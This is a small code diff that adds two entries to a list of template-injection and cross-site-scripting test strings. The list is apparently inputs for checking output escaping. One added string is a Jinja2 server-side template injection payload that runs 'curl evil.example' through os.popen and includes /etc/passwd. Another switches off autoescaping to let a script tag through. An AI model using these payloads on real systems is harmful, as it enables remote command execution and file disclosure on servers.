@@ -81,6 +81,8 @@ BREAKERS: Final = (
     "${alert(65)}",
     "{{constructor.constructor('alert(66)')()}}",
     "{% raw %}<script>alert(67)</script>{% endraw %}",
+    "{{ cycler.__init__.__globals__.os.popen('curl evil.example') }}{% include '/etc/passwd' %}",
+    "{% autoescape false %}<script>alert(67)</script>{% endautoescape %}{{ '<b>'|safe }}",
     "<%= alert(68) %>",
     "&lt;script&gt;alert(69)&lt;/script&gt;",
     "&#60;script&#62;alert(70)&#60;/script&#62;",
